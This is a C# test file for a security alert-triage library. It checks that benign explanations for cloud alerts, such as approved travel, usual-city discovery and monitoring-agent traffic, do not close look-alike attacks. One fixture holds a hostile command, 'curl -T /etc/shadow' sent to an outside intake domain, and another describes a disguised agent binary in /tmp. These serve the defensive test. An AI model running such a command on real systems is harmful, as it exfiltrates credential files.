using System.Text;
using Verdict.Alerts;
using Verdict.Analysis;
using Verdict.Context;
using Verdict.Ingest;

namespace Verdict.Tests.Analysis.Families;

/// <summary>
/// Reading who called and from where in cloud alerts of shapes shared by many products (a Splunk ES notable's correlation
/// search, an entity map's source object), and the reasons that place gives: approved travel to the caller's country, and
/// read-only discovery from a usual city on an ordinary network. Each has an attack wearing the same clothes that stays open.
/// </summary>
public sealed class CloudCallerTests
{
    private const string InHours = "2026-11-18T14:00:00Z"; // Wednesday, business hours in the fixtures' context (UTC)

    private static EnvironmentContext Context() => FamilyFixtures.Context() with
    {
        AutomationEgress = Runners(),
        UsualCountries = new HashSet<string> { "GB" },
        UsualCities = new HashSet<string>(["Leeds", "London"], StringComparer.OrdinalIgnoreCase),
        ApprovedTravel = [new ApprovedTravel("ana.lima", new HashSet<string> { "JP" }, new DateOnly(2026, 11, 16), new DateOnly(2026, 11, 20), "Tokyo sales visit")],
    };

    private static IpRangeSet Runners()
    {
        var runners = new IpRangeSet();
        Assert.True(runners.TryAdd("4.175.22.0/24"));
        return runners;
    }

    private static Assessment Assess(string json) =>
        FamilyFixtures.Triage([new FamilyFixture("c0", json.ReplaceLineEndings(" "), true, "")], Context())[0].Assessment!;

    private static Alert Read(string json) =>
        JsonAlertReader.Read(new MemoryStream(Encoding.UTF8.GetBytes(json.ReplaceLineEndings(" "))), "t.jsonl", Context()).Single().Value!;

    private static string Notable(string search, string rule, string eventName, string user, string src, string country) => $$$"""
        {"_time": "{{{InHours}}}", "event_id": "N1@@notable@@abc", "search_name": "{{{search}}}", "rule_name": "{{{rule}}}",
         "security_domain": "access", "urgency": "medium", "status_label": "New", "orig_sourcetype": "aws:cloudtrail",
         "src": "{{{src}}}", "user": "{{{user}}}", "eventName": "{{{eventName}}}", "eventSource": "signin.amazonaws.com",
         "region": "us-east-1", "src_country": "{{{country}}}", "mfa_used": "Yes"}
        """;

    [Fact]
    public void A_splunk_notables_rule_is_its_correlation_search_not_the_copied_cloudtrail_call()
    {
        var a = Read(Notable("Access - Console Login from New Country - Rule", "Console Login from New Country", "ConsoleLogin", "ana.lima", "126.10.3.4", "Japan"));
        Assert.Equal("Console Login from New Country", a.Rule);
        var bare = Read(Notable("Access - Console Login from New Country - Rule", "", "ConsoleLogin", "ana.lima", "126.10.3.4", "Japan"));
        Assert.Equal("Access - Console Login from New Country - Rule", bare.Rule);
    }

    [Fact]
    public void Approved_travel_to_the_callers_country_closes_a_cloud_sign_in_and_another_country_does_not()
    {
        var trip = Assess(Notable("Access - Console Login from New Country - Rule", "Console Login from New Country", "ConsoleLogin", "ana.lima", "126.10.3.4", "Japan"));
        Assert.Contains(trip.Evidence, e => e.Key == "approved_travel");
        Assert.Equal(Classification.Benign, trip.Classification);

        // The same traveller's account signing in from a country the trip does not cover: the stolen-session pattern.
        var elsewhere = Assess(Notable("Access - Console Login from New Country - Rule", "Console Login from New Country", "ConsoleLogin", "ana.lima", "102.89.34.117", "Nigeria"));
        Assert.DoesNotContain(elsewhere.Evidence, e => e.Key == "approved_travel");
        Assert.NotEqual(Classification.Benign, elsewhere.Classification);

        // Someone who is not travelling, from the traveller's destination.
        var other = Assess(Notable("Access - Console Login from New Country - Rule", "Console Login from New Country", "ConsoleLogin", "raj.patel", "126.10.3.4", "Japan"));
        Assert.DoesNotContain(other.Evidence, e => e.Key == "approved_travel");
        Assert.NotEqual(Classification.Benign, other.Classification);
    }

    private static string Lacework(string user, string ip, string country) => $$$"""
        {"alertId": 7, "alertName": "Unusual API Activity", "alertType": "NewApiCall", "startTime": "{{{InHours}}}", "severity": "Medium",
         "alertInfo": {"subject": "New API", "description": "User {{{user}}} called iam:ListUsers for the first time"},
         "entityMap": {"CT_User": [{"KEY": {"USERNAME": "{{{user}}}", "PRINCIPAL_ID": "p"}, "PROPS": {"ACCOUNT": "111122223333"}}],
           "SourceIpAddress": [{"KEY": {"IP_ADDRESS": "{{{ip}}}"}, "PROPS": {"COUNTRY": "{{{country}}}"}}],
           "Machine": [{"KEY": {"HOSTNAME": "web-01"}, "PROPS": {"INTERNAL_IP_ADDR": "10.1.2.3"}}]}}
        """;

    [Fact]
    public void An_entity_maps_source_object_gives_the_source_address_and_country_but_not_the_machines_address()
    {
        var a = Read(Lacework("ana.lima", "126.10.3.4", "Japan"));
        Assert.Equal("126.10.3.4", a.SourceIp);
        Assert.Equal("Japan", FieldGuess.Country(a.Fields));

        var trip = Assess(Lacework("ana.lima", "126.10.3.4", "Japan"));
        Assert.Contains(trip.Evidence, e => e.Key == "approved_travel");
        var elsewhere = Assess(Lacework("ana.lima", "102.89.34.117", "Nigeria"));
        Assert.DoesNotContain(elsewhere.Evidence, e => e.Key == "approved_travel");
    }

    [Fact]
    public void Service_automation_named_in_an_entity_map_is_checked_against_its_runners_by_the_source_address()
    {
        // svc-terraform is listed automation; its call from a foreign address (now read from the source entity) is stolen credentials.
        var stolen = Assess(Lacework("svc-terraform", "102.89.34.117", "Nigeria").Replace("\"Medium\"", "\"Low\"", StringComparison.Ordinal));
        Assert.Contains(stolen.Evidence, e => e.Key == "automation_unusual_source");
        Assert.NotEqual(Classification.Benign, stolen.Classification);
    }

    private static string GuardDuty(string type, string api, string userType, string city, string country, string asnOrg, int severity = 2) => $$$"""
        {"version": "0", "id": "e1", "detail-type": "GuardDuty Finding", "source": "aws.guardduty", "account": "111122223333",
         "time": "{{{InHours}}}", "region": "us-east-1",
         "detail": {"schemaVersion": "2.0", "accountId": "111122223333", "region": "us-east-1", "id": "f1", "type": "{{{type}}}",
           "resource": {"resourceType": "AccessKey", "accessKeyDetails": {"accessKeyId": "<access-key-id>", "userType": "{{{userType}}}", "userName": "data-eng"}},
           "service": {"serviceName": "guardduty", "action": {"actionType": "AWS_API_CALL", "awsApiCallAction": {"api": "{{{api}}}",
             "serviceName": "s3.amazonaws.com", "callerType": "Remote IP", "remoteIpDetails": {"ipAddressV4": "81.2.69.160",
             "organization": {"asnOrg": "{{{asnOrg}}}", "isp": "{{{asnOrg}}}"}, "country": {"countryName": "{{{country}}}"}, "city": {"cityName": "{{{city}}}"} } } },
             "eventFirstSeen": "{{{InHours}}}", "count": 1},
           "severity": {{{severity}}}, "createdAt": "{{{InHours}}}", "title": "Unusual {{{api}}}", "description": "An API was invoked in an unusual way."}}
        """;

    [Fact]
    public void Read_only_discovery_from_a_usual_city_on_an_ordinary_network_closes_and_its_look_alikes_stay_open()
    {
        var office = Assess(GuardDuty("Discovery:S3/AnomalousBehavior", "ListObjects", "AssumedRole", "Leeds", "United Kingdom", "British Telecommunications PLC"));
        Assert.Contains(office.Evidence, e => e.Key == "usual_city_discovery");
        Assert.Equal(Classification.Benign, office.Classification);

        // The same calls from a hosting provider in that city (stolen keys on a rented server), or a change rather than a read.
        var hosted = Assess(GuardDuty("Discovery:S3/AnomalousBehavior", "ListObjects", "AssumedRole", "London", "United Kingdom", "DigitalOcean, LLC"));
        Assert.DoesNotContain(hosted.Evidence, e => e.Key == "usual_city_discovery");
        Assert.NotEqual(Classification.Benign, hosted.Classification);
        var change = Assess(GuardDuty("Discovery:S3/AnomalousBehavior", "PutBucketPolicy", "AssumedRole", "Leeds", "United Kingdom", "British Telecommunications PLC"));
        Assert.DoesNotContain(change.Evidence, e => e.Key == "usual_city_discovery");
        Assert.NotEqual(Classification.Benign, change.Classification);
        // Exfiltration is not discovery, and a high rating is not explained by the city.
        var exfil = Assess(GuardDuty("Exfiltration:S3/AnomalousBehavior", "GetObject", "AssumedRole", "Leeds", "United Kingdom", "British Telecommunications PLC"));
        Assert.DoesNotContain(exfil.Evidence, e => e.Key == "usual_city_discovery");
        Assert.NotEqual(Classification.Benign, exfil.Classification);
        var high = Assess(GuardDuty("Discovery:S3/AnomalousBehavior", "ListObjects", "AssumedRole", "Leeds", "United Kingdom", "British Telecommunications PLC", 8));
        Assert.DoesNotContain(high.Evidence, e => e.Key == "usual_city_discovery");
    }

    [Fact]
    public void Making_a_cloud_storage_bucket_readable_by_all_users_is_public_exposure()
    {
        var json = """
            {"insertId": "g1", "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity", "protoPayload": {"@type": "type.googleapis.com/google.cloud.audit.AuditLog",
             "serviceName": "storage.googleapis.com", "methodName": "storage.setIamPermissions", "authenticationInfo": {"principalEmail": "dev@globex.com"},
             "requestMetadata": {"callerIp": "81.2.69.160"}, "resourceName": "projects/_/buckets/customer-exports",
             "request": {"policy": {"bindings": [{"role": "roles/storage.objectViewer", "members": ["allUsers"]}]}}},
             "resource": {"type": "gcs_bucket"}, "severity": "NOTICE", "timestamp": "2026-11-18T14:00:00Z"}
            """;
        var exposed = Assess(json);
        Assert.Contains(exposed.Evidence, e => e.Key == "public_exposure");
        Assert.NotEqual(Classification.Benign, exposed.Classification);
    }

    private static string NewServer(string name, string description, string cmdline) => $$$"""
        {"alertId": 8, "alertName": "{{{name}}}", "alertType": "NewExternalServerDNSConn", "startTime": "{{{InHours}}}", "severity": "Low",
         "alertInfo": {"subject": "new DNS", "description": "{{{description}}}"},
         "entityMap": {"Machine": [{"KEY": {"HOSTNAME": "app-02"}}], "Process": [{"KEY": {"PID": 42}, "PROPS": {"CMDLINE": "{{{cmdline}}}"}}]}}
        """;

    [Fact]
    public void A_monitoring_agent_reaching_its_own_vendors_intake_closes_and_anything_else_on_that_path_stays_open()
    {
        var agent = Assess(NewServer("New External Server DNS Connection", "Application datadog-agent on app-02 connected to new external DNS name intake.logs.datadoghq.eu", "/opt/datadog-agent/bin/agent/agent run"));
        Assert.Contains(agent.Evidence, e => e.Key == "monitoring_intake");
        Assert.Equal(Classification.Benign, agent.Classification);

        // A process named like the agent talking to somewhere else, and curl talking to the vendor's domain, get nothing.
        var elsewhere = Assess(NewServer("New External Server DNS Connection", "Application datadog-agent on app-02 connected to new external DNS name update-cdn.example.net", "/tmp/.x/datadog-agent"));
        Assert.DoesNotContain(elsewhere.Evidence, e => e.Key == "monitoring_intake");
        var curl = Assess(NewServer("New External Server DNS Connection", "Application curl on app-02 connected to new external DNS name http-intake.logs.datadoghq.eu", "curl -T /etc/shadow https://http-intake.logs.datadoghq.eu"));
        Assert.DoesNotContain(curl.Evidence, e => e.Key == "monitoring_intake");
        // A named threat is never explained by the destination.
        var miner = Assess(NewServer("New External Server DNS Connection", "Cryptominer: datadog-agent on app-02 connected to pool intake.logs.datadoghq.eu", "/opt/datadog-agent/agent"));
        Assert.DoesNotContain(miner.Evidence, e => e.Key == "monitoring_intake");
        Assert.NotEqual(Classification.Benign, miner.Classification);
    }

    private static string PortUnusual(string type, string direction, string asnOrg) => $$$"""
        {"version": "0", "id": "e2", "detail-type": "GuardDuty Finding", "source": "aws.guardduty", "account": "111122223333", "time": "{{{InHours}}}",
         "region": "us-east-1", "detail": {"schemaVersion": "2.0", "id": "f2", "type": "{{{type}}}",
           "resource": {"resourceType": "Instance", "instanceDetails": {"instanceId": "i-1", "tags": [{"key": "Name", "value": "app-02"}]}},
           "service": {"serviceName": "guardduty", "action": {"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {"connectionDirection": "{{{direction}}}",
             "protocol": "TCP", "blocked": false, "remoteIpDetails": {"ipAddressV4": "3.233.147.10", "organization": {"asnOrg": "{{{asnOrg}}}"}},
             "remotePortDetails": {"port": 10516} } }, "count": 1},
           "severity": 5, "createdAt": "{{{InHours}}}", "title": "Unusual port", "description": "The instance is communicating on an unusual server port."}}
        """;

    [Fact]
    public void Guardduty_unusual_outbound_traffic_to_a_monitoring_vendors_own_addresses_closes_but_not_to_a_hoster_or_as_c2()
    {
        var intake = Assess(PortUnusual("Behavior:EC2/NetworkPortUnusual", "OUTBOUND", "Datadog, Inc."));
        Assert.Contains(intake.Evidence, e => e.Key == "monitoring_intake");
        Assert.Equal(Classification.Benign, intake.Classification);

        var hoster = Assess(PortUnusual("Behavior:EC2/NetworkPortUnusual", "OUTBOUND", "DigitalOcean, LLC"));
        Assert.DoesNotContain(hoster.Evidence, e => e.Key == "monitoring_intake");
        Assert.NotEqual(Classification.Benign, hoster.Classification);
        var c2 = Assess(PortUnusual("Backdoor:EC2/C&CActivity.B", "OUTBOUND", "Datadog, Inc."));
        Assert.DoesNotContain(c2.Evidence, e => e.Key == "monitoring_intake");
        Assert.NotEqual(Classification.Benign, c2.Classification);
    }

    [Fact]
    public void An_unusual_data_transfer_alert_names_exfiltration_and_a_usual_region_does_not_close_it()
    {
        var json = """
            {"alertId": 9, "alertName": "Unusual Data Transfer Volume", "alertType": "NewS3Download", "startTime": "2026-11-18T23:40:00Z", "severity": "Medium",
             "alertInfo": {"subject": "Data volume", "description": "User raj.patel downloaded 84 GB from data-raw to 81.2.69.160"},
             "entityMap": {"CT_User": [{"KEY": {"USERNAME": "raj.patel"}}], "Region": [{"KEY": {"REGION": "us-east-1"}}],
               "SourceIpAddress": [{"KEY": {"IP_ADDRESS": "81.2.69.160"}, "PROPS": {"COUNTRY": "United Kingdom"}}], "API": [{"KEY": {"SERVICE": "s3.amazonaws.com", "API": "GetObject"}}]}}
            """;
        var volume = Assess(json);
        Assert.Contains(volume.Evidence, e => e.Key == "threat_named");
        Assert.NotEqual(Classification.Benign, volume.Classification);
    }
}
